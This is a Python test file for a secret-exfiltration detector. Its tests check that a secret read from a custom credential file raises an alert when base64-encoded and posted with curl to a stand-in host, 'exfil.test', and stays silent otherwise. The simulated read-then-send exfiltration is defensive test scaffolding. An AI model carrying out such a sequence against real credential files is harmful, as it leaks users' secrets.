"""Known-value matching on the real kernel (issue 3): a secret that fits no credential format,
read from a credential file, is caught when it leaves, here base64-encoded in a body to a name
that has nothing to do with it, and the alert names the file it was read from.

The credential file is a site's own (`credential_files:` in a rules drop-in), so only
known-value matching can see the secret: no catalogue format describes it.
"""

import base64
import secrets
import string
import time

from kharness import env
from kharness.users import write_user_file

ALERT_TIMEOUT = 5.0


def _custom_secret() -> str:
    alphabet = string.ascii_letters + string.digits
    body = "".join(secrets.choice(alphabet) for _ in range(24))
    return f"Zx{body[:12]}!4{body[12:]}#q"  # no catalogue format: mixed classes, punctuation


def _dropin(scratch):
    rules = scratch / "dropin"
    rules.mkdir()
    (rules / "50-acme.yaml").write_text(
        "version: 1\n"
        "credential_files:\n"
        "  - id: acme-cli\n"
        "    paths: ['~/.config/acme/token']\n")
    return rules


def test_value_read_from_custom_credential_file_alerts_when_sent_base64(
        start_agent, clients, https_server, curl, registry, scratch, test_user):
    secret = registry.register(_custom_secret(), "custom")
    token = write_user_file(test_user, ".config/acme/token", f"token = {secret}\n")
    agent = start_agent(rules_dirs=[env.DEFAULT_RULES, _dropin(scratch)])

    # The reader and the sender are different processes, as in a two-stage exfiltration.
    clients.run(["/bin/sh", "-c", f"cat {token} > /dev/null"], user=test_user)
    body = scratch / "body.txt"
    body.write_text("payload=" + base64.b64encode(b"x=" + secret.encode()).decode() + "\n")
    body.chmod(0o644)
    time.sleep(0.5)  # the learned set is rebuilt at most four times a second
    clients.run(curl.https(https_server, "exfil.test", "/drop") +
                ["--data-binary", f"@{body}"], user=test_user)
    https_server.wait_for_requests(1)

    def known(alert):
        return ((alert.get("secret") or {}).get("type") == "known-value" and
                (alert.get("destination") or {}).get("host") == "exfil.test")

    alerts = agent.wait_for_alerts(known, timeout=ALERT_TIMEOUT)
    assert alerts, f"no known-value alert\n{agent.diagnostics()}"
    alert = alerts[0]
    assert alert["secret"]["name"] == f"Secret read from {token}", registry.redact(str(alert))
    assert alert["secret"]["provider"] == "host"
    assert "base64" in (alert.get("evidence") or {}).get("decoding", []), registry.redact(str(alert))
    assert alert["process"]["comm"] == "curl"


def test_value_sent_nowhere_raises_no_known_value_alert(
        start_agent, clients, https_server, curl, registry, scratch, test_user):
    secret = registry.register(_custom_secret(), "custom")
    token = write_user_file(test_user, ".config/acme/token", f"token = {secret}\n")
    agent = start_agent(rules_dirs=[env.DEFAULT_RULES, _dropin(scratch)])
    clients.run(["/bin/sh", "-c", f"cat {token} > /dev/null"], user=test_user)
    body = scratch / "body.txt"
    body.write_text("nothing secret here\n")
    body.chmod(0o644)
    clients.run(curl.https(https_server, "exfil.test", "/drop") +
                ["--data-binary", f"@{body}"], user=test_user)
    https_server.wait_for_requests(1)
    time.sleep(2.0)
    assert not [a for a in agent.alerts()
                if (a.get("secret") or {}).get("type") == "known-value"], (
        registry.redact(str(agent.alerts())))
